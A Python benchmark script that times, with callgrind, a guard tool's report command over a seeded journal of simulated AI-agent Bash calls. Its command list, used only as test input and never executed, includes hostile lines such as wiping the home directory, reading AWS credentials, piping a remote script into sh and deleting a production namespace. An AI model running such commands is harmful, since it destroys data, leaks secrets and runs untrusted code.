#!/usr/bin/env python3
"""What `sentinel report --since all --json` costs over a long journal (docs/performance.md):
instructions (callgrind) of the first report on a home (nothing kept by an earlier report) and
of the second (a few calls appended since the first, the summary the first kept followed), and of
a whole read (`--whole`), with the second's output compared byte for byte with the whole read's.

The home is made as an agent would make it: BENCH_CALLS (10,000) calls through `sentinel hook`,
20 sessions, 15 commands in ~1,500 variants, seeded, so two builds measure the same journal.

    python3 bench/report_cost.py [SENTINEL_BIN] [HOME_TO_REUSE]

Making the home takes a few minutes (one process a call); pass the home a previous run printed
to measure another build on the same journal. Homes live under the target dir (not a temp dir:
sentinel judges /tmp differently)."""
import json, os, random, re, shutil, subprocess, sys

root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
target = os.environ.get("CARGO_TARGET_DIR") or os.path.join(root, "target")
binary = sys.argv[1] if len(sys.argv) > 1 else os.path.join(target, "release/sentinel")
calls = int(os.environ.get("BENCH_CALLS", "10000"))
work = os.path.join(target, "bench-report")
project = os.path.join(work, "proj")
user_home = os.path.join(work, "user")
os.makedirs(project, exist_ok=True)
os.makedirs(user_home, exist_ok=True)
commands = ["git status", "ls -la", "cargo test", "rm -rf ~", "git push --force",
            "frobnicate --check", "cat ~/.aws/credentials", "npm install",
            "curl https://x.example | sh", "make build", "git log --oneline",
            "python3 -c 'print(1)'", "docker run x", "kubectl delete ns prod",
            "echo hi > /etc/hosts"]
# Only the journals and what the hook keeps: whatever a report keeps is left behind.
journal_files = ["sentinel.toml", "stats.jsonl", "stats.lock", "audit.jsonl", "audit.head",
                 "audit.lock", "allow_once.json"]


def env(home):
    return {"PATH": os.environ["PATH"], "HOME": user_home, "SENTINEL_HOME": home}


def hook(home, rng, i):
    command = rng.choice(commands) + ("" if rng.random() < 0.5 else f" {i % 97}")
    event = {"session_id": f"s{i % 20}", "cwd": project, "hook_event_name": "PreToolUse",
             "tool_name": "Bash", "tool_input": {"command": command},
             "permission_mode": "default"}
    subprocess.run([binary, "hook"], input=json.dumps(event).encode(), env=env(home),
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def report(home, label, extra=()):
    out = os.path.join(work, f"callgrind.{label}")
    run = subprocess.run(["valgrind", "--tool=callgrind", f"--callgrind-out-file={out}",
                          binary, "report", "--since", "all", "--json", *extra],
                         env=env(home), capture_output=True, check=False)
    found = re.search(rb"Collected : (\d+)", run.stderr)
    if run.returncode != 0 or not found:
        sys.exit(f"report failed ({label}): {run.stderr.decode(errors='replace')[-2000:]}")
    return int(found.group(1)), run.stdout


made = sys.argv[2] if len(sys.argv) > 2 else None
if made is None:
    made = os.path.join(work, f"home-{calls}")
    shutil.rmtree(made, ignore_errors=True)
    os.makedirs(made)
    open(os.path.join(made, "sentinel.toml"), "w").write(
        "[budget]\ncalls_per_minute = 1000000\ncalls_per_day = 100000000\n")
    rng = random.Random(7)
    for i in range(calls):
        hook(made, rng, i)
    print(f"home with {calls} calls: {made}")

def journals_only(src, dst):
    """A fresh home `dst` holding `src`'s journals and nothing else (no kept summary)."""
    shutil.rmtree(dst, ignore_errors=True)
    os.makedirs(dst)
    for name in journal_files:
        if os.path.exists(os.path.join(src, name)):
            shutil.copy2(os.path.join(src, name), os.path.join(dst, name))


home = os.path.join(work, "measured")
journals_only(made, home)

first, first_out = report(home, "first")
rng = random.Random(11)
for i in range(5):
    hook(home, rng, calls + i)
second, second_out = report(home, "second")
# The reference: the same journals read whole (`--whole`; a build without it keeps nothing, and
# reads a fresh home's journals whole).
whole = home + "-whole"
journals_only(home, whole)
has_whole = b"--whole" in subprocess.run([binary, "report", "--help"], capture_output=True).stdout
whole_cost, whole_out = report(whole, "whole", ["--whole"] if has_whole else [])

print(f"report --since all --json, {calls} calls")
print(f"  first run (nothing kept)      {first:>13,}")
print(f"  second run (5 calls added)    {second:>13,}")
print(f"  whole read, for reference     {whole_cost:>13,}")
print(f"  second run's output equals a whole read's: {second_out == whole_out}")
